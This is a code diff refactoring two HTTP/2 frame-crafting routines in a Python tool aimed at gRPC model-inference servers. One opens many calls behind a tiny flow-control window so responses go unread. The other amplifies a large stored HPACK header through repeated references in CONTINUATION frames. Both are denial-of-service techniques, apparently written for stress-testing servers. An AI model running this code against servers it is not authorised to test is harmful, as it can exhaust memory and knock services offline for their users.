@@ -92,17 +92,13 @@ class UnreadCalls:
         pass
 
     async def run(self, target: Target, seen: Counter[str]) -> None:
-        settings = INITIAL_WINDOW_SIZE.to_bytes(2, "big") + bytes(4)
-        message = small_chat(target.model).SerializeToString()
-        body = b"\0" + len(message).to_bytes(4, "big") + message
+        window = INITIAL_WINDOW_SIZE.to_bytes(2, "big") + bytes(4)
         head = literals(call_headers(target))
-        sent = [PREFACE, frame(SETTINGS, 0, 0, settings)]
-        for number in range(self.calls):
-            stream = 2 * number + 1
-            sent += [
-                frame(HEADERS, END_HEADERS, stream, head),
-                frame(DATA, END_STREAM, stream, body),
-            ]
+        body = length_prefixed(small_chat(target.model))
+        sent = [PREFACE, frame(SETTINGS, 0, 0, window)]
+        for stream in range(1, 2 * self.calls, 2):
+            sent.append(frame(HEADERS, END_HEADERS, stream, head))
+            sent.append(frame(DATA, END_STREAM, stream, body))
         await _on_connections(target, self.connections, b"".join(sent), self.calls, seen)
 
 
@@ -121,14 +117,13 @@ class HeadReferences:
     async def run(self, target: Target, seen: Counter[str]) -> None:
         stored = b"\x40" + _string(b"x-a") + _string(b"a" * 3900)
         reference = (0x80 | FIRST_DYNAMIC).to_bytes(1, "big")
-        head = literals(call_headers(target))
+        head = literals(call_headers(target)) + stored
+        body = length_prefixed(small_chat(target.model))
         sent = [PREFACE, frame(SETTINGS, 0, 0, b"")]
-        for number in range(self.calls):
-            stream = 2 * number + 1
-            sent += [
-                frame(HEADERS, 0, stream, head + (stored if number == 0 else b"")),
-                frame(CONTINUATION, END_HEADERS, stream, reference * self.references),
-            ]
+        for stream in range(1, 2 * self.calls, 2):
+            sent.append(frame(HEADERS, 0, stream, head))
+            sent.append(frame(CONTINUATION, END_HEADERS, stream, reference * self.references))
+            sent.append(frame(DATA, END_STREAM, stream, body))
         await _on_connections(target, self.connections, b"".join(sent), self.calls, seen)
 
 
@@ -142,6 +137,12 @@ def call_headers(target: Target) -> dict[str, str]:
         "te": "trailers",
         "authorization": f"Bearer {target.key}",
     }
+
+
+def length_prefixed(message: inference_pb2.ChatRequest) -> bytes:
+    """A message of a gRPC call, which is not compressed."""
+    text = message.SerializeToString()
+    return b"\0" + len(text).to_bytes(4, "big") + text
 
 
 def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
